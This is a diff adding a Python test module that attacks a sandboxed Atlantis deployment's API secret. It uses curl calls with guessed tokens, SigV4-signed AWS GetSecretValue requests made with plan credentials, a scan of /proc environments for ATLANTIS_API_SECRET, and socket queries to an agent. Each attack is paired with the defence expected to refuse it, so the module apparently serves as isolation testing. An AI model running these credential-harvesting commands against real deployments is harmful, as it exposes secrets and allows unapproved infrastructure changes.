@@ -1,0 +1,195 @@
+"""Attacks on the server's API, whose secret can apply any branch without an approval: from outside, from a plan, and from a container
+beside the agent."""
+
+import json
+import re
+import subprocess
+
+from sandbox import processes
+from sandbox.atlantis import bubblewrap
+from sandbox.atlantis.bubblewrap import ContainerUser
+from sandbox.attack.provider import printed
+from sandbox.attack.row import Outcome, Row, SkippedError
+from sandbox.attack.target import Target
+from sandbox.attack.webhooks import answered
+from sandbox.github import events
+from sandbox.local_aws.task_status import StatusFile
+
+__all__ = ["ROWS"]
+
+_SECRET = "ATLANTIS_API_SECRET"  # noqa: S105 - the name of a variable
+_PATHS = {"apply": "/api/apply", "drift": "/api/drift/detect"}
+_CALLS = """
+port={port}
+for path in /healthz {paths}; do
+  method=POST; [ "$path" = /healthz ] && method=GET
+  curl -sS -o /dev/null -w "$path %{{http_code}}\\n" -X $method -H 'X-Atlantis-Token: guessed' -d '{body}' "http://127.0.0.1:$port$path"
+done
+if [ -n "$AWS_CONFIG_FILE" ]; then
+  session=$(sh -c "$(sed -n 's/^credential_process *= *//p' "$AWS_CONFIG_FILE")")
+else
+  session=$(curl -sS "$AWS_CONTAINER_CREDENTIALS_FULL_URI")
+fi
+field() {{ echo "$session" | tr ',{{}}' '\\n' | sed -n "s/^ *\\"$1\\": *\\"\\(.*\\)\\".*/\\1/p"; }}
+token=$(field SessionToken)
+call() {{
+  curl -sS -w "\\n$2 %{{http_code}}\\n" --aws-sigv4 "aws:amz:$AWS_REGION:$1" \\
+    --user "$(field AccessKeyId):$(field SecretAccessKey)" -H "x-amz-security-token: ${{token:-$(field Token)}}" \\
+    -H 'Content-Type: application/x-amz-json-1.1' -H "X-Amz-Target: $3" -d "$4" "$AWS_ENDPOINT_URL/" |
+    sed -n "s/.*__type[^A-Za-z]*\\([A-Za-z#.0-9]*\\).*/$2 answered \\1/p; /^$2 [0-9]/p"
+}}
+call secretsmanager secret secretsmanager.GetSecretValue '{{"SecretId":"{secret}"}}'
+call logs request Logs_20140328.CreateLogStream '{{"logGroupName":"{group}","logStreamName":"attack"}}'
+call logs groups Logs_20140328.DescribeLogGroups '{{}}'
+"""
+_SEARCH = "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | sed -n 's/^ATLANTIS_API_SECRET=.*/has the secret/p; s/^PATH=.*/has PATH/p'"
+_ASK = """
+import json, socket
+for want in ("session", "secret", "api-secret", "ATLANTIS_API_SECRET", "environment"):
+    with socket.socket(socket.AF_UNIX) as agent:
+        agent.connect("/run/isolation/plan-broker/agent.sock")
+        agent.sendall(json.dumps({"want": want, "checkout": "attack/attack/1/default"}).encode() + b"\\n")
+        print(want, agent.makefile().readline().strip())
+"""
+
+
+def _secret(target: Target) -> str:
+    if _SECRET not in target.secrets:
+        raise SkippedError("the server's API has no secret, because this stack detects no drift")
+    return target.secrets[_SECRET]
+
+
+def _stolen(target: Target, path: str) -> Outcome:
+    headers = {"X-Atlantis-Token": _secret(target), "Content-Type": "application/json"}
+    return answered(target.load_balancer.request("POST", path, headers=headers, body=_body(target).encode()))
+
+
+def _body(target: Target) -> str:
+    return json.dumps({"Repository": target.repository("any"), "Ref": "main", "Type": "Github"})
+
+
+def _called(target: Target, name: str) -> Outcome:
+    """The answer to one of the calls of a provider in a plan; its name is a path of the server or a call of AWS."""
+    secret = next(
+        item["valueFrom"].partition(":api_secret:")[0]
+        for container in target.task_definition["containerDefinitions"]
+        for item in container.get("secrets", [])
+        if item["name"] == _SECRET and _secret(target)
+    )
+    (group,) = {
+        container["logConfiguration"]["options"]["awslogs-group"]
+        for container in target.task_definition["containerDefinitions"]
+        if container["name"] == "agent"
+    }
+    script = _CALLS.format(
+        port=StatusFile(target.deployment.state, target.deployment.name).read().port,
+        paths=" ".join(_PATHS.values()),
+        body=_body(target),
+        secret=secret,
+        group=group,
+    )
+    said = printed(target, "api-secret", f"bash <<'BASH'\n{script.strip()}\nBASH")
+    found = re.search(rf"^{re.escape(name)} (\d+)$", said, re.MULTILINE)
+    if found is None:
+        raise RuntimeError(f"the provider called nothing: {said[:300]}")
+    error = re.search(rf"^{re.escape(name)} answered (.*)$", said, re.MULTILINE)
+    if error and "AccessDenied" not in error[1]:
+        raise RuntimeError(f"{name} failed for another reason: {error[1]}")
+    return Outcome(found[1] == "200", f"{name} was answered with {found[1]} {error[1] if error else ''}".rstrip())
+
+
+def _in_container(target: Target, name: str, *words: str) -> str:
+    """The output of a command as root of a container, as if its program had been taken over."""
+    process = processes.find(target.deployment.state, f"{target.deployment.name}.{name}")
+    if process is None or bubblewrap.why_not():
+        raise SkippedError(f"the task has no container {name} on this machine: {bubblewrap.why_not()}")
+    command = bubblewrap.enter(process.pid, ContainerUser(0, 0), words)
+    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=60).stdout
+
+
+def _finds(target: Target, container: str) -> Outcome:
+    _secret(target)
+    said = _in_container(target, container, "sh", "-c", _SEARCH)
+    if "has PATH" not in said:
+        raise RuntimeError(f"the search has read no environment in {container}: {said[:300]}")
+    found = "has the secret" in said
+    return Outcome(found, f"{container} {'has' if found else 'has not'} the secret")
+
+
+def _asked(target: Target) -> dict[str, str]:
+    """The agent's answers to a neighbour, by what it was asked for."""
+    lines = _in_container(target, "plan", "python3", "-c", _ASK).splitlines()
+    return dict(line.split(" ", 1) for line in lines)
+
+
+def _told(target: Target) -> Outcome:
+    secret, answers = _secret(target), _asked(target)
+    told = [
+        want for want, answer in answers.items() if secret in answer or (want != "session" and "error" not in answer)
+    ]
+    return Outcome(bool(told), f"the agent answered {', '.join(told) if told else 'with errors'}")
+
+
+ROWS = (
+    *(
+        Row(
+            name=f"api-secret-outside-{name}",
+            attack="Apply any branch without an approval, with the stolen secret of the API",
+            tried=f"POST {path} with the deployed secret, from one of the allowed addresses",
+            refused_by="the load balancer's rules, which deny changes through the API unless allowApi is set",
+            attempt=lambda target, path=path: _stolen(target, path),
+            control=lambda target: answered(target.deliver("ping", events.ping())),
+        )
+        for name, path in _PATHS.items()
+    ),
+    *(
+        Row(
+            name=f"api-secret-plan-{name}",
+            attack="Apply any branch without an approval, from a plan, which shares the task's network with the server",
+            tried=f"a provider binary in the pull request that sends POST {path} with a guessed secret to the server's port",
+            refused_by="the server, which requires the API's secret",
+            attempt=lambda target, path=path: _called(target, path),
+            control=lambda target: _called(target, "/healthz"),
+            isolation=True,
+        )
+        for name, path in _PATHS.items()
+    ),
+    Row(
+        name="api-secret-plan-read",
+        attack="Read the API's secret with the credentials of a plan",
+        tried="a provider binary in the pull request that calls GetSecretValue",
+        refused_by="the secret's policy and the Deny statement for the stack's own resources",
+        attempt=lambda target: _called(target, "secret"),
+        control=lambda target: _called(target, "groups"),
+        isolation=True,
+    ),
+    Row(
+        name="api-secret-plan-request",
+        attack="Request detections of drift, or forge their results, with the credentials of a plan",
+        tried="a provider binary in the pull request that creates a stream in the agent's log group",
+        refused_by="the Deny statement for the stack's own resources",
+        attempt=lambda target: _called(target, "request"),
+        control=lambda target: _called(target, "groups"),
+        isolation=True,
+    ),
+    Row(
+        name="api-secret-neighbour",
+        attack="Read the API's secret as root of the container of plans, which is beside the agent",
+        tried="searches every environment that root of the container can read",
+        refused_by="the containers of a task, which have own processes, and the task definition, which gives the secret to two of them",
+        attempt=lambda target: _finds(target, "plan"),
+        control=lambda target: _finds(target, "agent"),
+        isolation=True,
+    ),
+    Row(
+        name="api-secret-agent",
+        attack="Get the API's secret from the agent",
+        tried="asks the agent for it as root of the container of plans, through the socket that hands out sessions",
+        refused_by="the agent, which answers with sessions and tokens for modules only",
+        attempt=_told,
+        control=lambda target: Outcome(
+            "AccessKeyId" in _asked(target).get("session", ""), "the agent hands out a session"
+        ),
+        isolation=True,
+    ),
+)
